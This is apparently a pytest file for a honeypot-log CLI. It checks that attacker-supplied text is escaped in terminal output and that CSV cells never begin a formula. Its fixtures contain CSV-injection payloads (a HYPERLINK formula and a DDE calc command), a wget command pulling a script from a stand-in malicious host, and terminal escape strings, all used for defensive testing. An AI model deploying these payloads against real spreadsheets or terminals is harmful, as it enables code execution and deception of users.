"""Attacker text through the CLI: terminal escapes never reach the screen, CSV cells never
start a formula, and listings say when they stop at --limit or find nothing."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from teiten.cli.main import cli
from teiten.csvcell import FORMULA_START

HYPERLINK = '=HYPERLINK("http://x","y")'
DDE = "+cmd|' /C calc'!A0"
URL = "http://evil.example/a\x1b[2J\x07\u202eb.sh"
COMMAND = f"wget {URL}; echo '\\x04'\u2028\u2066"


def _event(eventid: str, sid: str, second: int, **fields: object) -> str:
    return json.dumps(
        {
            "eventid": eventid,
            "session": sid,
            "timestamp": f"2017-11-27T03:14:{second:02d}.000000Z",
            "src_ip": "198.51.100.9" if sid == "aa01" else "198.51.100.10",
            "sensor": "hp-1",
            **fields,
        }
    )


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    root = tmp_path_factory.mktemp("hostile")
    lines = []
    for n, sid in enumerate(("aa01", "aa02")):
        t = n * 20
        lines += [
            _event("cowrie.session.connect", sid, t, dst_ip="192.0.2.10", src_port=40000,
                   dst_port=23, protocol="telnet"),
            _event("cowrie.login.failed", sid, t + 1, username=HYPERLINK, password=DDE),
            _event("cowrie.login.success", sid, t + 2, username="@SUM(1+1)", password="-2+3"),
            _event("cowrie.command.input", sid, t + 3, input=COMMAND),
            _event("cowrie.session.closed", sid, t + 4, duration=4.0),
        ]  # fmt: skip
    log = root / "cowrie.json"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    data = str(root / "store")
    r = run("ingest", str(log), "--data", data)
    assert r.exit_code == 0, r.output
    return data


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), env={"TEITEN_CONFIG": ""}, catch_exceptions=False)


def _unsafe(text: str) -> list[str]:
    """Characters a terminal could act on or hide text with."""
    bad = {"Cc", "Cf", "Zl", "Zp", "Cs"}
    return [c for c in text if c != "\n" and unicodedata.category(c) in bad]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_show_prints_no_control_or_bidi_character(store: str) -> None:
    rows = json.loads(run("payloads", "--data", store, "--format", "json").stdout)
    assert any(URL in r["indicators"] for r in rows)  # machine formats stay exact
    shown = run("payloads", "--data", store, "--show", rows[0]["id"])
    assert shown.exit_code == 0, shown.output
    assert _unsafe(shown.stdout) == []
    indicators_line = next(x for x in shown.stdout.splitlines() if x.startswith("indicators:"))
    assert "\\x1b[2J\\x07\\u202eb.sh" in indicators_line
    # the text \x04 the attacker typed is shown with its backslash escaped
    assert "echo '\\\\x04'\\u2028\\u2066" in shown.stdout
    for args in (["payloads"], ["indicators"], ["query", "SELECT * FROM logins"]):
        out = run(*args, "--data", store).stdout
        assert out and _unsafe(out) == [], args


@pytest.mark.parametrize(
    "args",
    [
        ["query", "SELECT username, password, commands FROM logins"],
        ["payloads"],
        ["indicators"],
    ],
)
def test_no_csv_cell_starts_a_formula(store: str, args: list[str]) -> None:
    r = run(*args, "--data", store, "--format", "csv")
    assert r.exit_code == 0, r.output
    cells = _cells(r.stdout)
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    assert _unsafe(r.stdout.replace("\n", "")) == []
    if args[0] == "query":
        assert {"'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)", "'-2+3"} <= set(cells)


@pytest.mark.parametrize("args", [["payloads"], ["indicators"], ["query", "SELECT * FROM logins"]])
def test_json_is_ascii_with_every_control_escaped(store: str, args: list[str]) -> None:
    r = run(*args, "--data", store, "--format", "json")
    assert r.exit_code == 0 and r.stdout.isascii() and _unsafe(r.stdout) == []
    assert json.loads(r.stdout)


def test_numbers_stay_numbers_in_csv(store: str) -> None:
    r = run("query", "SELECT -3 AS change, 2.5 AS ratio, '-3' AS text", "--data", store,
            "--format", "csv")  # fmt: skip
    assert r.stdout.splitlines()[1] == "-3,2.5,'-3"


def test_limit_and_empty_results_are_said(store: str) -> None:
    r = run("payloads", "--data", store, "--limit", "1")
    assert r.exit_code == 0 and "showing 1 of 2 sessions; use --limit" in r.stderr
    r = run("payloads", "--data", store, "--limit", "1", "--format", "json")
    assert len(json.loads(r.stdout)) == 1 and "showing 1 of 2" in r.stderr
    r = run("payloads", "--data", store)
    assert "showing" not in r.stderr and "no sessions" not in r.stderr
    r = run("payloads", "--data", store, "--cve", "cve-1999-0001")
    assert r.exit_code == 0 and "no sessions match" in r.stderr
    total = len(json.loads(run("indicators", "--data", store, "--format", "json").stdout))
    assert total >= 2
    r = run("indicators", "--data", store, "--limit", "1")
    assert f"showing 1 of {total} indicators; use --limit" in r.stderr


@pytest.mark.parametrize(
    "cve", ["notacve", "CVE-17-1", "CVE-2017-12", "2017-8361", "CVE-2017-1234x"]
)
def test_a_malformed_cve_is_a_one_line_error(store: str, cve: str) -> None:
    r = run("payloads", "--data", store, "--cve", cve)
    assert r.exit_code == 1 and "not a CVE id" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and r.stdout == ""


def test_error_lines_are_escaped(store: str, tmp_path: Path) -> None:
    missing = tmp_path / "cap\x1b]0;owned\x07\u202e.pcap"
    r = run("ingest", str(missing), "--data", store)
    assert r.exit_code == 1 and "\\x1b]0;owned\\x07\\u202e" in r.stderr
    assert _unsafe(r.stderr) == [] and len(r.stderr.strip().splitlines()) == 1
    r = run("query", 'SELECT * FROM "\x1b[2J\u2066x"', "--data", store)
    assert r.exit_code == 1 and _unsafe(r.stderr) == []
